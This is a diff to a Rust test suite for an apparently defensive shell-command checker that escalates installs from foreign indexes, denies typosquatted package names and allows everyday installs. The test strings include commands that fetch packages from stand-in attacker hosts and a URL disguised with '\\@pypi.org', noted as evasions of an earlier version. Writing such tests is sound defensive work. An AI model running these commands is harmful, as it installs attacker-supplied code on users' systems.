@@ -24,6 +24,26 @@ fn installs_from_a_foreign_index_url_or_repository_are_held() {
         "gem install --source https://gems.evil.example rails",
         "cargo install --git https://github.com/x/y y",
         "cd /tmp && pip install https://files.quickshare.cc/d/utils-1.0.tar.gz",
+        // Review s22: spellings that got past the first version.
+        "pip install --index-url 'https://evil.example.com\\@pypi.org/simple' foo",
+        "npm --registry https://registry.evil.example/ install left-pad",
+        "pip -q install -i https://evil.example/simple foo",
+        "pip install -ihttps://evil.example/simple foo",
+        "pip install --extra-index=https://evil.example/simple foo",
+        "npm install --reg=https://registry.evil.example/ left-pad",
+        "pip install -e=git+https://github.com/x/y#egg=y",
+        "pip install -r https://evil.example/requirements.txt",
+        "PIP_INDEX_URL=https://evil.example/simple pip install foo",
+        "export npm_config_registry=https://registry.evil.example/; npm install left-pad",
+        "npm install git@github.com:x/y.git",
+        "npm inst git+https://github.com/x/y.git",
+        "yarn global add git+https://github.com/x/y.git",
+        "python3 -mpip install https://files.quickshare.cc/y.whl",
+        "python3 -X utf8 -m pip install https://files.quickshare.cc/y.whl",
+        "npx github:x/y",
+        "npx git+https://github.com/org/tool.git",
+        "npx https://github.com/org/tool/archive/main.tar.gz",
+        "uvx --from git+https://github.com/x/y y",
     ] {
         escalate(cmd, "shell.package-source");
     }
@@ -38,9 +58,17 @@ fn near_misses_of_popular_packages_are_denied() {
         "python -m pip install --upgrade reqeusts",
         "uv add reqeusts",
         "npm install react-domm",
-        "npm i --save-dev expres",
+        "npm i --save-dev exprss",
         "yarn add lodsah",
         "cargo install ripgrpe",
+        "pip -q install reqeusts",
+        "npm install -p lodahs",
+        "pnpm add -r lodahs",
+        "npx craete-react-app",
+        "pnpm dlx create-raect-app",
+        "bunx prettire",
+        "uvx blakc",
+        "pipx run reqeusts",
     ] {
         deny(cmd, "shell.package-typo");
     }
@@ -66,6 +94,14 @@ fn registry_installs_and_local_ones_pass() {
         "cargo install --path .",
         "cargo install --registry my-registry tool",
         "gem install rails",
+        // Review s22: everyday installs the first version blocked.
+        "pip install scrapy cattrs pyaml markdown2 pymssql simpy grequests dataset torchx polar",
+        "npm install mysql color",
+        "cargo install diesel_cli",
+        "pip install torch --index-url https://download.pytorch.org/whl/cu121",
+        "npm install react17@npm:react@17",
+        "npx prettier --write .",
+        "npx create-react-app my-app",
     ] {
         allow(cmd);
     }
